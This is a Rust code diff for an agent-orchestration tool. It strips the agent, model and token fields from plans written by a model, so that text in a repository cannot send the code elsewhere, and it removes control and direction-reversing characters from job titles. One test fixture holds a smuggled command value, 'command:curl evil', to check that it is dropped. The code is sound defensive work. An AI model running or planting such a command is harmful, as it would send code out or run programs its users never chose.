@@ -9,6 +9,11 @@ use std::collections::{BTreeMap, BTreeSet};
 pub const MAX_JOBS: usize = 64;
 /// The longest prompt of a job, in bytes.
 pub const MAX_PROMPT: usize = 1 << 20;
+/// The longest title of a job, in characters.
+pub const MAX_TITLE: usize = 100;
+/// The keys of a job that only a person may write: they choose which program runs, who is sent the
+/// code, and what it may cost.
+const PERSONS_KEYS: [&str; 3] = ["agent", "model", "tokens"];
 
 /// A plan as it is written by a person (TOML) or a model (JSON).
 #[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize, JsonSchema)]
@@ -132,7 +137,21 @@ impl Plan {
         plan.validated()
     }
 
-    /// The plan with titles filled in.
+    /// Reads and validates a plan that a model wrote, in JSON. What only a person may choose (the
+    /// agent, the model and the tokens of a job) is left out: a model reads the repository, and
+    /// what is written there must not send the code elsewhere.
+    ///
+    /// # Errors
+    /// Says what is wrong.
+    pub fn from_model(text: &str) -> Result<Self, Error> {
+        let mut plan = Self::from_json(text)?;
+        for job in &mut plan.jobs {
+            (job.agent, job.model, job.tokens) = (None, None, None);
+        }
+        Ok(plan)
+    }
+
+    /// The plan with titles filled in, each one clean line of at most [`MAX_TITLE`] characters.
     ///
     /// # Errors
     /// The first thing that is wrong with it.
@@ -154,9 +173,12 @@ impl Plan {
             if job.prompt.trim().is_empty() || job.prompt.len() > MAX_PROMPT {
                 return Err(Error::Prompt(job.name.clone()));
             }
-            if job.title.trim().is_empty() {
-                job.title = title(&job.prompt);
-            }
+            let from_prompt = title(&job.prompt);
+            let title = [&job.title, &from_prompt, &job.name]
+                .into_iter()
+                .map(|text| clean(text))
+                .find(|title| !title.is_empty());
+            job.title = title.unwrap_or_default();
             for globs in [&job.scope.write, &job.scope.forbid] {
                 scope::Globs::new(globs).map_err(|source| Error::Scope {
                     job: job.name.clone(),
@@ -203,11 +225,46 @@ impl Plan {
         Err(Error::Cycle(open.into_keys().map(str::to_owned).collect()))
     }
 
-    /// The JSON schema that a model is given.
+    /// The JSON schema of a plan as a person writes it.
     #[must_use]
     pub fn schema() -> serde_json::Value {
         schemars::schema_for!(Plan).to_value()
     }
+
+    /// The JSON schema that a model is given: without what [`Plan::from_model`] leaves out.
+    #[must_use]
+    pub fn schema_for_models() -> serde_json::Value {
+        let mut schema = Self::schema();
+        let keys = schema
+            .pointer_mut("/$defs/Job/properties")
+            .and_then(serde_json::Value::as_object_mut);
+        if let Some(keys) = keys {
+            for key in PERSONS_KEYS {
+                keys.remove(key);
+            }
+        }
+        schema
+    }
+}
+
+/// One line without control characters or marks that turn the direction of writing.
+fn clean(title: &str) -> String {
+    let plain: String = title
+        .chars()
+        .map(|c| {
+            let turns = matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+            if c.is_control() || turns { ' ' } else { c }
+        })
+        .collect();
+    let words: Vec<&str> = plain.split_whitespace().collect();
+    let line = words.join(" ");
+    if line.chars().count() <= MAX_TITLE {
+        return line;
+    }
+    let mut cut: String = line.chars().take(MAX_TITLE - 1).collect();
+    cut.truncate(cut.trim_end().len());
+    cut.push('…');
+    cut
 }
 
 fn is_name(name: &str) -> bool {
@@ -279,6 +336,50 @@ mod tests {
         );
         assert!(message("[[job]]\nname='a'\nprompt='x'\nscop={}").contains("unknown field `scop`"));
         assert!(message("[[job]]\nname='A b'\nprompt='x'").contains("is not a name"));
+    }
+
+    #[test]
+    fn a_plan_of_a_model_chooses_no_agent_no_model_and_no_tokens() {
+        let text = r#"{"job": [{"name": "a", "prompt": "x", "agent": "command:curl evil",
+            "model": "elsewhere/model", "tokens": 9, "criteria": ["it works"]}]}"#;
+        let job = Plan::from_model(text).unwrap().jobs.remove(0);
+        assert_eq!((job.agent, job.model, job.tokens), (None, None, None));
+        assert_eq!(job.criteria, ["it works"]);
+        let persons = Plan::from_json(text).unwrap().jobs.remove(0);
+        assert_eq!(persons.tokens, Some(9), "a person may");
+    }
+
+    #[test]
+    fn a_model_is_not_offered_what_only_a_person_may_choose() {
+        let keys = |schema: serde_json::Value| {
+            let keys = schema.pointer("/$defs/Job/properties").unwrap();
+            keys.as_object()
+                .unwrap()
+                .keys()
+                .cloned()
+                .collect::<Vec<_>>()
+        };
+        let mut all = keys(Plan::schema());
+        assert!(PERSONS_KEYS.iter().all(|key| all.iter().any(|k| k == key)));
+        all.retain(|key| !PERSONS_KEYS.contains(&key.as_str()));
+        assert_eq!(keys(Plan::schema_for_models()), all);
+        assert!(all.contains(&"prompt".to_owned()));
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn a_title_is_one_clean_line_whatever_was_written(
+            written in "(\\PC|\\p{Cc}|[\u{202a}-\u{202e}\u{2066}-\u{2069} ]){0,300}",
+            prompt in "(\\PC|\\p{Cc}){1,200}x",
+        ) {
+            let plan = Plan { jobs: vec![Job { title: written, ..Plan::single(&prompt).jobs.remove(0) }] };
+            let plan = plan.validated().unwrap();
+            let title = &plan.jobs[0].title;
+            proptest::prop_assert!(!title.is_empty() && title.chars().count() <= MAX_TITLE);
+            let is_wrong = |c: char| c.is_control() || ('\u{202a}'..='\u{202e}').contains(&c);
+            proptest::prop_assert!(!title.chars().any(is_wrong), "{:?}", title);
+            proptest::prop_assert_eq!(plan.clone().validated().unwrap(), plan);
+        }
     }
 
     #[test]
